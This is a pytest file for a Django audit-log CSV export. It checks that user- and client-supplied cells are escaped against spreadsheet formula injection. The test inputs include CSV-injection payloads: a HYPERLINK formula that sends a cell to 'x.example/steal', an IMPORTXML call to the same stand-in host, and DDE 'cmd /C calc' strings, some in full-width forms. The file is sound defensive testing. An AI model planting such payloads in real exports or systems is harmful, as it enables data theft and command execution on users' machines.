"""The audit trail's CSV export opened in a spreadsheet: what people and clients typed (a
justification, a hold reason, even the headers of a failed sign-in) is shown as text, never run
as a formula (OWASP "CSV injection"); the extra data is JSON a program can read back."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from audit.models import AuditEvent
from compliance.services.legal_holds import legal_hold_place
from kit.csv_export import csv_cell, csv_lines
from recordings.services.ingest import recording_ingest

from ..audio import tone_wav

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://x.example/steal?d="&A1,"Click")'


def _export(client) -> list[dict[str, str]]:
    response = client.get(reverse("admin:audit_auditevent_export"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _recording(tenant):
    return recording_ingest(
        tenant=tenant,
        api_key=None,
        audio=tone_wav(0.5),
        fields={
            "call_id": "call-csv-1",
            "direction": "inbound",
            "started_at": (timezone.now() - timedelta(hours=1)).isoformat(),
            "customer_number": "+33612345678",
            "purpose": "quality",
        },
    ).recording


def test_no_cell_of_the_export_starts_a_formula(cast, client, login):
    # A failed sign-in needs no account of the attacker's: only alice's username.
    client.post(
        "/admin/login/?next=/admin/",
        {"username": "alice", "password": "not her password"},
        headers={"User-Agent": HYPERLINK, "X-Workstation-Id": "=cmd|' /C calc'!A0"},
    )
    failed = AuditEvent.objects.get(action="auth.login_failed")
    assert failed.user_agent == HYPERLINK  # the trail keeps what was sent, as it was sent
    recording = _recording(cast.acme)
    carol = login(cast.carol)
    carol.post(
        reverse("recordings:listen", args=[recording.pk]),
        {"purpose": "quality", "justification": "=1+1 monthly quality sample"},
        headers={"X-Workstation-Id": "@SUM(1+1)*cmd|' /C calc'!A0"},
    )
    legal_hold_place(
        actor=cast.alice,
        tenant=cast.acme,
        reference="-2+3",
        reason='+IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
        customer_number="+33612345678",
    )

    rows = _export(login(cast.alice))

    assert {row["action"] for row in rows} >= {
        "auth.login_failed",
        "recording.access_granted",
        "legal_hold.placed",
    }
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    by_action = {row["action"]: row for row in rows}
    # Escaped with a leading apostrophe, the text itself intact after it.
    assert by_action["auth.login_failed"]["user_agent"] == "'" + HYPERLINK
    assert by_action["auth.login_failed"]["workstation_id"] == "'=cmd|' /C calc'!A0"
    granted = by_action["recording.access_granted"]
    assert granted["justification"] == "'=1+1 monthly quality sample"
    assert granted["workstation_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_action["legal_hold.placed"]["justification"].startswith("'+IMPORTXML(")


def test_extra_data_is_written_as_json(cast, login):
    legal_hold_place(
        actor=cast.alice,
        tenant=cast.acme,
        reference="Case 2026-118",
        reason="Litigation",
        campaign="spring",
    )
    rows = _export(login(cast.alice))
    placed = next(row for row in rows if row["action"] == "legal_hold.placed")
    extra = json.loads(placed["extra"])  # Python's repr would be {'reference': ..., True, None}
    assert extra["reference"] == "Case 2026-118"
    assert extra["customer_number"] is False
    assert extra["started_from"] is None
    assert extra["campaign"] == "spring"
    # Numbers stay numbers a spreadsheet can sum.
    assert int(placed["sequence"]) > 0
    assert int(placed["tenant_id"]) == cast.acme.pk


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-5, -5),  # a number is data, not a formula: it stays a number
        (-2.5, -2.5),
        ("+33612345678", "'+33612345678"),  # a phone number stays text, its + shown as typed
        ("-5", "'-5"),  # text that looks like a number is still text
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        # After leading blanks a spreadsheet still runs it, and in its full-width form too.
        (" =1+1", "' =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\u3000@SUM(A1)", "'\u3000@SUM(A1)"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0bcmd", "'\uff0bcmd"),
        ("\uff0dcmd", "'\uff0dcmd"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("plain text", "plain text"),
        ("a=1", "a=1"),
        (None, ""),
        ({"b": [1, None, True]}, '{"b": [1, null, true]}'),
    ],
)
def test_one_rule_for_every_cell(value, written):
    assert csv_cell(value) == written


def _cells_as_a_spreadsheet_splits(line: str, separator: str) -> list[str]:
    """A line cut as a spreadsheet does with its list separator: a double quote opens or closes
    a quoted stretch wherever it is, and only a separator outside one cuts."""
    cells, cell, quoted = [], "", False
    for character in line:
        if character == '"':
            quoted = not quoted
        elif character == separator and not quoted:
            cells, cell = [*cells, cell], ""
        else:
            cell += character
    return [*cells, cell]


@pytest.mark.parametrize("separator", [",", ";"])
def test_no_cell_starts_a_formula_whatever_separator_the_spreadsheet_uses(separator):
    """French or German Excel cuts on ';': a ';' inside a cell must not make a second cell that
    starts a live formula."""
    cells = ["x;=cmd|' /C calc'!A0", "y,=1+1", "z;\uff20SUM(A1)", "plain"]
    text = "".join(csv_lines(["a", "b", "c", "d", "e"], [[*cells, -5]]))
    for line in text.splitlines():
        *texts, number = _cells_as_a_spreadsheet_splits(line, separator)
        for cell in texts:
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff20")), cell
    # Read back as CSV, the cells are what was written; a number is not quoted, so that it
    # stays a number a spreadsheet can sum.
    assert list(csv.reader(io.StringIO(text)))[1] == [*cells, "-5"]
    assert text.splitlines()[1].endswith(",-5")
